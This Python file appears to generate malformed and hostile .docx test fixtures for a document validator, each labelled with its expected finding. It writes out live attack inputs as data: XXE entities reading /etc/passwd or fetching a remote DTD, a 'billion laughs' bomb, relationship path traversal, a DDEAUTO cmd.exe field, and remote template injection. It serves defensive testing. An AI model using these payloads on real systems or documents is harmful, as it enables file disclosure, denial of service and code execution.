"""Bad packages, bad XML and bad documents in good containers: see make.py."""
import struct

from parts import *


# ---- P: packages ----

def without(name):
    return good({n: d for n, d in parts().items() if n != name})


def P01():
    """docx-no-content-types"""
    return without("[Content_Types].xml")


def P02():
    """docx-no-relationships"""
    return without("_rels/.rels")


def P03():
    """docx-no-main-part"""
    return without(DOCUMENT)


def P04a():
    """docx-other-type"""
    return good(parts() | {"[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")})


def P04b():
    """docx-other-type"""
    return good(parts() | {"[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")})


def P04c():
    """docx-not-word"""
    return good(parts() | {"[Content_Types].xml": types("application/xml")})


def P05():
    """ok"""
    return good(parts() | {"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")})


def outside(kind, target):
    mode = ' TargetMode="External"'
    return good(parts() | {"word/_rels/document.xml.rels": relationships(relationship("rId1", kind, target, mode))})


def P06():
    """ok+docx-external"""
    return outside("attachedTemplate", "http://x.invalid/t.dotm")


def P07():
    """ok+docx-external"""
    return outside("oleObject", "http://x.invalid/o")


def P08a():
    """ok+docx-external"""
    return outside("image", "http://x.invalid/i.png")


def P08b():
    """ok+docx-external"""
    return outside("image", r"\\host\share\i.png")


def P08c():
    """ok"""
    return outside("hyperlink", "https://x.invalid/")


def P09():
    """docx-relationship"""
    return good(parts() | {"word/_rels/document.xml.rels": relationships(relationship("rId1", "image", "../../../../etc/passwd"))})


def P10a():
    """docx-relationship"""
    twice = relationships(relationship("rId1", "image", "a.png"), relationship("rId1", "image", "b.png"))
    return good(parts() | {"word/_rels/document.xml.rels": twice})


def P10b():
    """docx-relationship"""
    many = relationships(*(relationship(f"rId{i}", "image", "a.png") for i in range(20001)))
    return good(parts() | {"word/_rels/document.xml.rels": many})


def P11():
    """ok+docx-missing-part"""
    return good(parts() | {"word/_rels/document.xml.rels": relationships(relationship("rId1", "image", "media/gone.png"))})


PACKAGE_R = "http://schemas.openxmlformats.org/package/2006/relationships"


def of_package(id, kind, target):
    return f'<Relationship Id="{id}" Type="{PACKAGE_R}/{kind}" Target="{target}"/>'


def with_root(*items, **more):
    """A good file whose package points at more than its main part."""
    root = relationships(relationship("rId1", "officeDocument", "word/document.xml"), *items)
    return good(parts(**more) | {"_rels/.rels": root})


def core(created):
    return ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dcterms="http://purl.org/dc/terms/"><dcterms:created>' + created +
            "</dcterms:created></cp:coreProperties>").encode()


def P12():
    """ok+docx-two-properties"""
    return with_root(of_package("rId2", "metadata/core-properties", "docProps/core.xml"),
                     of_package("rId3", "metadata/core-properties", "docProps/core2.xml"),
                     **{"docProps/core.xml": core("2021-09-22T00:00:00Z"), "docProps/core2.xml": core("i går")})


def P13():
    """ok"""
    return good(parts() | {"[Content_Types].xml": types(MAIN + "; charset=utf-8")})


def P14():
    """ok"""
    strict = relationships('<Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" '
                           'Target="word/document.xml"/>')
    return good(parts(document(namespace=STRICT)) | {"_rels/.rels": strict})


def P15():
    """ok+docx-signed"""
    return with_root(of_package("rId2", "digital-signature/origin", "_xmlsignatures/origin.sigs"),
                     **{"_xmlsignatures/origin.sigs": b""})


# ---- X: XML ----

def doctype(declaration, body=None):
    return good(parts(document(body, f"<!DOCTYPE w:document {declaration}>")))


def X01():
    """xml-doctype"""
    return doctype('[<!ENTITY a "x">]', paragraph("&a;"))


def X02():
    """xml-doctype"""
    return doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]', paragraph("&a;"))


def X03():
    """xml-doctype"""
    return doctype('[<!ENTITY % a SYSTEM "http://x.invalid/a.dtd"> %a;]')


def X04():
    """xml-doctype"""
    laughs = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    return doctype(f'[<!ENTITY l0 "ha">{laughs}]', paragraph("&l9;"))


def X05():
    """xml-doctype"""
    return doctype(f'[<!ENTITY a "{"x" * 50000}">]', paragraph("&a;" * 20000))


def X06():
    """xml-doctype"""
    return doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', paragraph("&a;"))


def X07a():
    """xml-too-deep"""
    return good(parts(document("<w:sdt><w:sdtContent>" * 130 + paragraph() + "</w:sdtContent></w:sdt>" * 130)))


def X07b():
    """xml-too-deep"""
    return good(parts(document("".join(f"<w:x{noise(4).hex()}{i}>" for i in range(100000)))))


def X08():
    """xml-too-many-attributes"""
    return good(parts(document("<w:p " + " ".join(f'a{i}="{i}"' for i in range(200000)) + "/>")))


def X09():
    """xml-too-many-attributes"""
    return good(parts(document("<w:p " + " ".join(f'xmlns:a{i}="urn:{i}"' for i in range(20000)) + "/>")))


def X10():
    """xml-too-large"""
    return good(parts(document("".join(f"<p>{i}</p>" for i in range(4000001)))))


def X11():
    """ok"""
    return good(parts(document(paragraph(noise(11 << 19).hex()))))


def X12():
    """xml-malformed"""
    name = "a" * 60000
    return good(parts(document(f"<{name}></{name}>")))


def X13a():
    """xml-character"""
    return good(parts(document(paragraph("@")).replace(b"@", b"\xc3\x28")))


def X13b():
    """xml-character"""
    return good(parts(document(paragraph("@")).replace(b"@", b"\xed\xa0\x80")))


def X13c():
    """xml-character"""
    return good(parts(document(paragraph("@")).replace(b"@", b"\xc0\xbc")))


def X14a():
    """xml-character"""
    return good(parts(document(paragraph("@")).replace(b"@", b"\x01")))


def X14b():
    """xml-character"""
    return good(parts(document(paragraph("@")).replace(b"@", b"\x0b")))


def X14c():
    """xml-character"""
    return good(parts(document(paragraph("&#1;"))))


def utf16(encoding, mark):
    text = document().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return good(parts(mark + text.encode(encoding)))


def X15a():
    """ok"""
    return utf16("utf-16-le", b"\xff\xfe")


def X15b():
    """ok"""
    return utf16("utf-16-be", b"\xfe\xff")


def X16a():
    """xml-encoding"""
    return good(parts(document().replace(b"UTF-8", b"ISO-8859-1")))


def X16b():
    """xml-encoding"""
    return good(parts(document().decode().replace("UTF-8", "IBM037").encode("cp037")))


def X16c():
    """xml-encoding"""
    return good(parts(document().replace(b"UTF-8", b"UTF-7")))


def X17a():
    """xml-truncated"""
    return good(parts(document()[:-20]))


def X17b():
    """xml-malformed"""
    return good(parts(document() + document().split(b"?>")[1]))


def X17c():
    """xml-malformed"""
    return good(parts(document() + b"junk"))


def X18a():
    """xml-malformed"""
    return good(parts(document('<w:p w:a="1" w:a="2"/>')))


def X18b():
    """xml-malformed"""
    return good(parts(document("<q:p/>")))


def X19():
    """ok"""
    return good(parts(document('<?xml-stylesheet href="http://x.invalid/"?><xi:include '
                               'xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>' + paragraph())))


def X20():
    """ok"""
    return good(parts(document("<w:p><w:r><w:t>H<![CDATA[e]]><!-- x -->j</w:t></w:r></w:p>")))


# ---- W: documents ----

def W01():
    """ok"""
    return good(parts(document("<w:t>a</w:t>" + "<w:p>" * 40 + "<w:r><w:t>Hej</w:t></w:r>" + "</w:p>" * 40
                               + "<w:tbl><w:tr><w:tc/></w:tr><w:tc/><w:p/></w:tbl><w:tr/><w:tc/>")))


def field(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def W02():
    """ok+docx-field-unbalanced"""
    return good(parts(document(f"{paragraph()}<w:p>{field('end')}{field('begin')}{field('begin')}{field('separate')}</w:p>")))


def W08():
    """ok+docx-tracked-changes"""
    return good(parts(document("<w:sdt><w:sdtContent>" * 50 + paragraph() + "</w:sdtContent></w:sdt>" * 50
                               + '<w:p><w:ins w:author="a"><w:r><w:t>b</w:t></w:r></w:ins></w:p>')))


def W09():
    """ok"""
    def row(i):
        cell = '<w:tc><w:tcPr><w:gridSpan w:val="2147483648"/><w:vMerge/></w:tcPr>' + paragraph(noise(i * 8 + 40)[i * 8:].hex()) + "</w:tc>"
        return f"<w:tr>{cell * 9}</w:tr>"
    return good(parts(document(paragraph() + "<w:tbl>" + "".join(map(row, range(1000))) + "<w:tr/></w:tbl>")))


def W10():
    """ok"""
    styles = (f'<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
              '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>').encode()
    numbering = (f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="x"/></w:abstractNum>'
                 '<w:num w:numId="1"><w:abstractNumId w:val="9"/></w:num></w:numbering>').encode()
    body = '<w:p><w:pPr><w:pStyle w:val="A"/><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>Hej</w:t></w:r></w:p>'
    rels = relationships(relationship("rId1", "styles", "styles.xml"), relationship("rId2", "numbering", "numbering.xml"))
    return good(parts(document(body)) | {"word/styles.xml": styles, "word/numbering.xml": numbering,
                                         "word/_rels/document.xml.rels": rels})


def W11():
    """ok"""
    rels = relationships(relationship("rId1", "image", "media/a.png"))
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 65535, 65535) + bytes(9)
    size = '<wp:extent xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" cx="{0}" cy="-1"/>'
    blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId1"/>'
    drawing = "<w:p><w:r><w:drawing>" + size.format(2**63 - 1) + blip + "</w:drawing></w:r></w:p>"
    return good(parts(document(paragraph() + drawing)) | {"word/media/a.png": png, "word/_rels/document.xml.rels": rels})


def W12():
    """ok+docx-missing-part"""
    section = '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr></w:pPr></w:p>'
    return good(parts(document(paragraph() + section * 1000)))


def W13():
    """ok+docx-active-field"""
    return good(parts(document(paragraph() + '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r>'
                                             '</w:fldSimple></w:p>')))


def W14():
    """ok+docx-hidden-text"""
    return good(parts(document(paragraph() + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>")))


def W18():
    """ok+docx-file-inside"""
    rels = relationships(relationship("rId1", "aFChunk", "a.rtf"))
    return good(parts(document(paragraph() + '<w:altChunk r:id="rId1"/>')) | {"word/a.rtf": b"{\\rtf1}", "word/_rels/document.xml.rels": rels,
                "[Content_Types].xml": types(more='<Default Extension="rtf" ContentType="application/rtf"/>')})


def W17():
    """ok+docx-unreadable-part"""
    rels = relationships(relationship("rId1", "styles", "styles.xml"))
    return good(parts() | {"word/styles.xml": b"<w:styles", "word/_rels/document.xml.rels": rels})
